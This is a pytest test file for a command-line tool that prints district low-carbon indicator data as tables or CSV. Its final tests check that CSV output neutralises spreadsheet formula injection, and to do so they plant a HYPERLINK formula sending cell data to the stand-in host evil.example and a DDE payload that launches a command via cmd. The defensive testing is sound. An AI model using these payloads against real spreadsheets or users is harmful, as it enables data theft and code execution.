"""`python -m indicators show` prints what the pages show, with pinned columns and exit codes."""

import csv
import io
import os
import subprocess
import sys

import pytest

from tests.conftest import ROOT

COLUMNS = (
    "street_code,street,year,period,indicator,breakdown,value,unit,data_status,"
    "rag_status,source,as_of,review,target,expected_to_date"
)


def run(*args, db=None):
    env = dict(os.environ)
    if db is not None:
        env["LOWCARBON_DB"] = str(db)
    return subprocess.run(
        [sys.executable, "-m", "indicators", *args],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def rows(out):
    return list(csv.DictReader(io.StringIO(out)))


def test_show_funded_projects_csv_prints_63():
    res = run("show", "funded_projects", "--street", "全区", "--year", "2024", "--format", "csv")
    assert res.returncode == 0, res.stderr
    assert res.stdout.splitlines()[0] == COLUMNS
    (row,) = rows(res.stdout)
    assert row["value"] == "63" and row["street_code"] == "district" and row["period"] == "Y"
    assert row["source"] == "长发改〔2025〕17号" and row["as_of"] == "2025-04-11"


def test_show_budget_growth_table_prints_183():
    res = run("show", "budget_growth", "--street", "全区", "--year", "2024")
    assert res.returncode == 0, res.stderr
    assert " 1.83 " in res.stdout


def test_show_municipal_reviews_by_programme():
    res = run(
        "show", "municipal_reviews", "--street", "长宁区", "--year", "2024", "--format", "csv"
    )
    assert res.returncode == 0, res.stderr
    assert [(r["breakdown"], r["value"]) for r in rows(res.stdout)] == [
        ("合同能源管理", "1"),
        ("绿色供应链管理企业", "1"),
        ("碳管理试点示范", "5"),
    ]


@pytest.mark.parametrize("alias", ["虹桥", "虹桥街道", "Hongqiao", "hongqiao subdistrict"])
def test_street_aliases(alias):
    res = run("show", "pv_new", "--street", alias, "--year", "2025", "--format", "csv")
    assert res.returncode == 0, res.stderr
    assert {r["street_code"] for r in rows(res.stdout)} == {"hongqiao"}


def test_indicator_by_chinese_name_and_all_periods():
    res = run(
        "show",
        "光伏新增装机容量",
        "--street",
        "新泾镇",
        "--year",
        "2026",
        "--period",
        "all",
        "--format",
        "csv",
    )
    assert res.returncode == 0, res.stderr
    periods = {r["period"] for r in rows(res.stdout)}
    assert {"Q1", "Q2", "Q3", "M09"} <= periods and "Y" not in periods


def test_exit_codes_and_messages():
    bad = run("show", "no_such_indicator")
    assert bad.returncode == 2 and "no_such_indicator" in bad.stderr
    assert "Traceback" not in bad.stderr
    bad_street = run("show", "gdp", "--street", "火星", "--lang", "en")
    assert bad_street.returncode == 2 and "Unknown subdistrict/town" in bad_street.stderr
    assert run("show", "gdp", "--period", "Q5").returncode == 2
    empty = run("show", "gdp", "--year", "1995")
    assert empty.returncode == 1 and empty.stdout == ""


def test_missing_database_is_a_clear_message(tmp_path):
    res = run("show", "gdp", db=tmp_path / "none.duckdb")
    assert res.returncode == 2 and "init" in res.stderr and "Traceback" not in res.stderr
    assert not (tmp_path / "none.duckdb").exists()


def test_init_empty_has_only_the_seed_then_demo_remove(tmp_path):
    db = tmp_path / "real.duckdb"
    assert run("init", "--empty", db=db).returncode == 0
    res = run("show", "funded_projects", "--year", "2024", "--format", "csv", db=db)
    assert [r["value"] for r in rows(res.stdout)] == ["63"]
    assert run("show", "gdp", db=db).returncode == 1
    demo = tmp_path / "demo.duckdb"
    assert run("init", db=demo).returncode == 0
    assert run("demo", "remove", db=demo).returncode == 0
    res = run("show", "funded_projects", "--period", "all", "--format", "csv", db=demo)
    assert [r["value"] for r in rows(res.stdout)] == ["63"]
    assert run("show", "gdp", db=demo).returncode == 1


# Text a spreadsheet would run, planted where each CSV-printing command prints stored text:
# a figure's source and note (show, history), who loaded it (reporting status, history), a
# commitment's evidence (commitments list).
FORMULA = '=HYPERLINK("http://evil.example/"&A2)'
EDITOR = "@SUM(1+1)"
CSV_COMMANDS = {
    "show": ["show", "energy_per_gdp_change", "--street", "虹桥", "--year", "2025"],
    "reporting status": ["reporting", "status", "--year", "2025", "--period", "Q3"],
    "commitments list": ["commitments", "list"],
    "history": ["history"],
}


@pytest.fixture
def planted(work_db):
    from indicators.intake import checks, files, loading
    from tests.intake_files import csv_bytes, load_rows

    load_rows(
        [
            ["街镇", "年份", "期间", "指标", "数值", "来源", "备注"],
            ["虹桥街道", 2025, "Y", "energy_per_gdp_change", -3.2, FORMULA, "+cmd|' /C calc'!A0"],
            ["虹桥街道", 2025, "Q3", "gdp", 3100000, FORMULA, ""],
        ],
        editor=EDITOR,
    )
    data = csv_bytes([["事项编号", "责任街镇", "承诺事项", "进展状态", "佐证材料"],
                      ["C08", "虹桥", "打造虹桥下午茶", "推进中", FORMULA]])  # fmt: skip
    checked = checks.check(files.read_upload(data, "c.csv", kind="commitments"))
    loading.load(checked, editor="hq", file_name="c.csv", data=data, replace=True)
    return work_db


@pytest.mark.parametrize("command", CSV_COMMANDS)
def test_every_csv_the_command_line_prints_quotes_formulas_and_keeps_numbers(planted, command):
    res = run(*CSV_COMMANDS[command], "--format", "csv", db=planted)
    assert res.returncode == 0, res.stderr
    cells = [v for row in csv.reader(io.StringIO(res.stdout)) for v in row]
    from indicators import formulas

    assert not [v for v in cells if formulas.is_formula(v)]  # nothing Excel would run
    assert {"'" + FORMULA, "'" + EDITOR} & set(cells)  # the planted text, quoted
    if command == "show":
        (row,) = rows(res.stdout)
        assert row["value"] == "-3.2" and row["source"] == "'" + FORMULA  # a number as it is
